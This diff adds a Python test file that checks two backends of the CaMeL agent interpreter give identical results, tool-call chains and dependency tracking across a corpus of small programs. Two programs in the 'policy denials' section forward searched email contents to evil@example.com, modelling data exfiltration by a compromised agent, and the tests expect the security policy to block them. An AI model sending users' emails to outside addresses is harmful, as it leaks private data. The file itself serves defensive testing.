@@ -0,0 +1,199 @@
+# Copyright 2025 Google LLC
+#
+# Licensed under the Apache License, Version 2.0 (the "License");
+# you may not use this file except in compliance with the License.
+# You may obtain a copy of the License at
+#
+#     http://www.apache.org/licenses/LICENSE-2.0
+#
+# Unless required by applicable law or agreed to in writing, software
+# distributed under the License is distributed on an "AS IS" BASIS,
+# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+# See the License for the specific language governing permissions and
+# limitations under the License.
+
+"""Differential tests of the compiled and the tree-walking backends.
+
+Each program of the corpus is run by both backends, in both dependency
+propagation modes, and the results, tool calls chains, namespaces and
+dependencies are compared, including their readers and sources.
+"""
+
+import ast
+from typing import Any
+
+from benchmarks import run as benchmarks_run
+from benchmarks import workspace
+from camel.camel_library import result
+from camel.camel_library import security_policy
+from camel.camel_library.capabilities import utils as capabilities_utils
+from camel.camel_library.interpreter import camel_value
+from camel.camel_library.interpreter import interpreter
+import pytest
+
+PROGRAMS = {
+    **benchmarks_run.PROGRAMS,
+    "arithmetic": "x = 1 + 2 * 3\ny = x // 2 - x % 4\nprint(x, y, -x, x ** 2)",
+    "strings": """\
+s = "hello" + " " + "world"
+words = s.split(" ")
+print(s[1], s[-1], s[1:4], len(s), s.upper(), s * 2, ", ".join(words))
+print(s.replace("o", "0"), s.find("w"), s.startswith("he"), "lo" in s)
+""",
+    "containers": """\
+l = [3, 1, 2]
+l[0] = 10
+t = (1, 2, 3)
+a, b, c = t
+s = {1, 2, 3}
+d = {"a": 1}
+d["b"] = 2
+print(l, sorted(l), a + b + c, 2 in s, s | {4}, d, {**d, "c": 3})
+print(list(reversed(l)), list(enumerate("ab")), list(zip(l, t)))
+""",
+    "control_flow": """\
+total = 0
+for i in range(10):
+    if i % 3 == 0:
+        continue
+    if i > 7:
+        break
+    total = total + i
+label = "big" if total > 10 else "small"
+print(total, label)
+""",
+    "nested_comprehensions": """\
+emails = search_emails("Project")
+pairs = [(e.sender, r) for e in emails for r in e.recipients if r != e.sender]
+by_sender = {s: [r for t, r in pairs if t == s] for s in {p[0] for p in pairs}}
+print(len(pairs), sorted(by_sender.keys()))
+""",
+    "tool_outputs": """\
+email = search_emails("update 3")[0]
+event = get_events("")[0]
+print(email.sender, email.date.isoformat(), event.start < event.end)
+""",
+    "qllm": """\
+emails = search_emails("done")
+n = query_ai_assistant("How many? " + emails[0].body, "int")
+print(n + 1)
+""",
+    "class_definition": """\
+class Summary(BaseModel):
+    count: int
+    title: str
+s = Summary(count=3, title="x")
+print(s.count, s.title)
+""",
+    "send_allowed": """\
+emails = search_emails("Project 1")
+send_email(to="me@example.com", subject="Fwd", body=emails[0].body)
+""",
+    # Errors.
+    "undefined_name": "x = 1\ny = undefined_name + x",
+    "raise": 'x = 1\nraise ValueError("boom")',
+    "type_error": 'x = "a" + 1',
+    "index_error": "l = [1, 2]\nprint(l[5])",
+    "key_error": 'd = {"a": 1}\nprint(d["b"])',
+    "error_in_loop": """\
+total = 0
+for i in range(5):
+    total = total + 10 // (3 - i)
+""",
+    "error_in_comprehension": "l = [1 // (i - 2) for i in range(4)]",
+    "unsupported_syntax": "x = 0\nwhile x < 3:\n    x += 1",
+    # Policy denials.
+    "send_denied": """\
+emails = search_emails("Project")
+send_email(to="evil@example.com", subject="Fwd", body=emails[0].body)
+""",
+    "send_denied_in_loop": """\
+for email in search_emails("Project 2"):
+    send_email(to="evil@example.com", subject="Fwd", body=email.subject)
+""",
+}
+
+
+def _canonical_value(value: camel_value.Value[Any] | None) -> Any:
+  if value is None:
+    return None
+  return (
+      type(value).__name__,
+      repr(value.raw),
+      repr(capabilities_utils.get_all_readers(value)[0]),
+      sorted(map(repr, capabilities_utils.get_all_sources(value)[0])),
+  )
+
+
+def _canonical_nodes(nodes: tuple[ast.AST, ...]) -> list[Any]:
+  return [
+      (type(n).__name__, getattr(n, "lineno", None), ast.dump(n))
+      for n in nodes
+  ]
+
+
+def _run(
+    program: str,
+    backend: interpreter.EvalBackend,
+    mode: interpreter.DependenciesPropagationMode,
+) -> Any:
+  """Runs `program` and returns a canonical form of its outcome."""
+  base = workspace.Workspace(20).namespace()
+  eval_args = interpreter.EvalArgs(
+      workspace.SecurityPolicyEngine(), mode, backend=backend
+  )
+  try:
+    eval_result = interpreter.parse_and_interpret_code(
+        f"```python\n{program}\n```", base, [], (), eval_args
+    )
+  except security_policy.SecurityPolicyDeniedError as e:
+    return ("denied", str(e)), [], {}, []
+  except Exception as e:  # pylint: disable=broad-except
+    # Some errors (e.g., divisions by zero) are raised rather than returned.
+    return ("raised", type(e).__name__, str(e)), [], {}, []
+  match eval_result.result:
+    case result.Ok(value):
+      outcome = ("ok", _canonical_value(value))
+    case result.Error(error):
+      outcome = (
+          "error",
+          type(error.exception).__name__,
+          str(error.exception),
+          _canonical_nodes(error.nodes),
+          [_canonical_value(d) for d in error.dependencies],
+      )
+  chain = [
+      (c.function, c.object_type, repr(c.args), repr(c.output), c.is_builtin)
+      for c in eval_result.tool_calls_chain
+  ]
+  variables = {
+      name: _canonical_value(value)
+      for name, value in eval_result.namespace.variables.items()
+      if base.variables.get(name) is not value
+  }
+  dependencies = [_canonical_value(d) for d in eval_result.dependencies]
+  return outcome, chain, variables, dependencies
+
+
+@pytest.mark.parametrize("mode", list(interpreter.DependenciesPropagationMode))
+@pytest.mark.parametrize("name", list(PROGRAMS))
+def test_backends_give_the_same_results(name, mode):
+  tree_walking = _run(
+      PROGRAMS[name], interpreter.EvalBackend.TREE_WALKING, mode
+  )
+  compiled = _run(PROGRAMS[name], interpreter.EvalBackend.COMPILED, mode)
+
+  assert compiled == tree_walking
+
+
+def test_corpus_covers_errors_and_denials():
+  outcomes = {
+      _run(
+          program,
+          interpreter.EvalBackend.COMPILED,
+          interpreter.DependenciesPropagationMode.NORMAL,
+      )[0][0]
+      for program in PROGRAMS.values()
+  }
+
+  assert outcomes == {"ok", "error", "raised", "denied"}